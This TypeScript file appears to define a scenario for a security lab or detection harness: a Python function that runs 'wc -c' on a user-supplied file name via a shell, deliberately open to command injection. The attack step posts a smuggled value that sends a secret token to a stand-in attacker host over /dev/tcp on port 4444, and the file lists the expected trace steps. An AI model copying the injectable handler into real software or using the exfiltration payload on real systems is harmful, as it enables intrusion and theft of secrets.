/** A function in Python counts the bytes of a picture by a shell; who asks names the picture, and more. */
import type { Scenario } from '../scenario.ts';
import { functionSteps, gateway, gatewayHost, pythonFunction } from '../service/functions.ts';
import { attacker, client } from '../stage.ts';

const place = `${attacker}:4444`;
const address = '10.77.0.40';
const path = '/function/measure';
const pictures = ['cat.png', 'dog.png', 'tree.png', 'house.png'];
const handler = `import logging, subprocess

def handle(body):
    name = body.decode()
    logging.info("measuring %s", name)
    return subprocess.run(f"wc -c /srv/pictures/{name}", shell=True, capture_output=True, text=True).stdout
`;

export const pythonInjection: Scenario = {
  name: 'python-injection',
  title: 'a name that is given to a Python function is run by its shell, and sends the token away',
  packages: ['nginx', 'python3'],
  hosts: [
    pythonFunction('measure', address, handler, {
      'srv/token': 'the token of this function\n',
      ...Object.fromEntries(pictures.map((name) => [`srv/pictures/${name}`, name.repeat(100)])),
    }),
    gatewayHost({ measure: address }),
  ],
  load: {
    visits: pictures.map((name) => ({
      weight: 1,
      requests: [{ to: [gateway, 80], method: 'POST', path, body: name, status: [200] }],
    })),
    chores: [{ host: 'measure', command: ['/bin/sh', '-c', 'wc -c /srv/token; ls /srv/pictures'] }],
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const theft = `bash -c 'cat /srv/token >/dev/tcp/${attacker}/4444'`;
    const asked = await stage.outside
      .browser(client)
      .ask(gateway, 80, { method: 'POST', path, body: `cat.png; ${theft}` });
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('the token')) throw new Error('nothing was stolen');
    return {
      symptom: place,
      also: [attacker, await stage.lineOf('measure', '/var/log/function.log', theft)],
      rootCause: { kind: 'connection', from: asked.client, to: `${gateway}:80` },
      steps: [
        ...functionSteps('measure', asked),
        {
          what: 'its shell',
          at: { kind: 'process', container: 'measure', words: 'wc -c /srv/pictures/cat.png; bash' },
        },
        {
          what: 'what was given is run',
          at: { kind: 'process', container: 'measure', words: 'bash -c cat' },
        },
        {
          what: 'it reads the token',
          at: { kind: 'process', container: 'measure', words: 'cat /srv/token' },
        },
        { what: 'the token', at: { kind: 'file', path: '/srv/token' } },
        { what: 'the loot is sent away', at: { kind: 'connection', from: address, to: place } },
      ],
    };
  },
};
